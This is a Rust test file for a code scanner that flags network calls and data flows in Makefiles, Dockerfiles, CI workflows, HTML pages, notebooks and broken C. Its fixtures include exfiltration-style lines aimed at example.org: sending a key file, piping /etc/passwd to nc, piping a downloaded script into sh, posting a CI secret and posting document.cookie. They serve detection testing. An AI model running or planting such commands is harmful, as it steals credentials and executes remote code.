//! Code inside other files, ranges no grammar reads, and what a large tree leaves unparsed.

use std::collections::BTreeMap;

use pellucid::model::RelPath;
use pellucid::model::ScanEvidence;
use pellucid::scan::Options;
use pellucid::scan::SourceFile;
use pellucid::scan::scan_source;

fn scan(files: &[(&str, &str)], declared: u64) -> ScanEvidence {
    let texts: BTreeMap<RelPath, Vec<u8>> =
        files.iter().map(|(path, text)| (RelPath::from(*path), text.as_bytes().to_vec())).collect();
    let list: Vec<SourceFile> = texts
        .iter()
        .map(|(path, text)| SourceFile { path: path.clone(), size: declared.max(text.len() as u64) })
        .collect();
    let reader = |path: &RelPath| texts.get(path).cloned().ok_or_else(|| "gone".to_owned());
    scan_source(&list, &reader, &Options::default())
}

fn shows(evidence: &ScanEvidence, path: &str, line: u32, category: &str) -> bool {
    let at =
        |location: &pellucid::model::scan::Location| location.path == path && location.start_line == line;
    evidence.capabilities.iter().chain(&evidence.sources).any(|r| at(&r.location) && r.category == category)
        || evidence.flows.iter().any(|r| at(&r.location) && r.category == category)
}

#[test]
fn code_in_build_files_pages_and_notebooks_is_read_where_it_stands() {
    let evidence = scan(
        &[
            (
                "Makefile",
                "TOOL = curl\nall:\n\t@$(TOOL) -d @key https://example.org\n\tcat /etc/passwd | nc example.org 9\n",
            ),
            (
                "Dockerfile",
                "FROM base\nRUN apt-get update && \\\n    curl -s https://example.org/i.sh | sh\n",
            ),
            (
                ".github/workflows/ci.yml",
                "jobs:\n  a:\n    steps:\n      - run: |\n          curl -H \"A: ${{ secrets.TOKEN }}\" https://example.org\n",
            ),
            (
                "page.html",
                "<p>\n<script>\nfetch('https://example.org', { body: document.cookie });\n</script>\n",
            ),
            (
                "note.ipynb",
                "{\n \"cells\": [{\n  \"cell_type\": \"code\",\n  \"source\": [\n   \"import requests\\n\",\n   \"requests.get('https://example.org')\"\n  ]\n }]\n}\n",
            ),
        ],
        0,
    );
    for (path, line, category) in [
        ("Makefile", 3, "cap.net.http"),
        ("Makefile", 4, "flow.credential-file->net"),
        ("Dockerfile", 3, "flow.net->exec"),
        (".github/workflows/ci.yml", 5, "flow.env->net"),
        ("page.html", 3, "cap.net.http"),
        ("note.ipynb", 6, "cap.net.http"),
    ] {
        assert!(
            shows(&evidence, path, line, category),
            "{path}:{line} {category}\n{:#?}",
            evidence.capabilities
        );
    }
}

#[test]
fn a_call_in_a_range_no_grammar_reads_is_found_by_its_spelling() {
    let text = "#define BEGIN {\nint f(void)\n{\n  @@ $$ if ( = connect(s, &a, sizeof a) @@ ;;;\n  )) @@ = getenv (\"HOME\" ]]\n}\n";
    let evidence = scan(&[("broken.c", text)], 0);
    assert!(evidence.coverage.error_bytes > 0, "the sample must not parse");
    assert!(shows(&evidence, "broken.c", 4, "cap.net.socket"), "{:#?}", evidence.capabilities);
    assert!(shows(&evidence, "broken.c", 5, "src.env"), "{:#?}", evidence.sources);
}

#[test]
fn a_large_tree_says_what_it_did_not_parse() {
    let quiet = "int add(int a, int b) { return a + b; }\n";
    let loud = "void f(int s) { send(s, \"x\", 1, 0); }\n";
    let evidence = scan(&[("quiet.c", quiet), ("loud.c", loud)], 64 << 20);
    assert_eq!(evidence.coverage.files, 2);
    assert_eq!(evidence.coverage.prefiltered.files, 1, "quiet.c holds no catalogued name");
    assert_eq!(evidence.coverage.parsed.files, 1);
    assert!(shows(&evidence, "loud.c", 1, "cap.net.socket"));
    let said = evidence.not_examined.iter().any(|missed| missed.reason.contains("1 files of code"));
    assert!(said, "{:#?}", evidence.not_examined);
    let small = scan(&[("quiet.c", quiet), ("loud.c", loud)], 0);
    assert_eq!(small.coverage.prefiltered.files, 0);
    assert_eq!(small.coverage.parsed.files, 2);
}
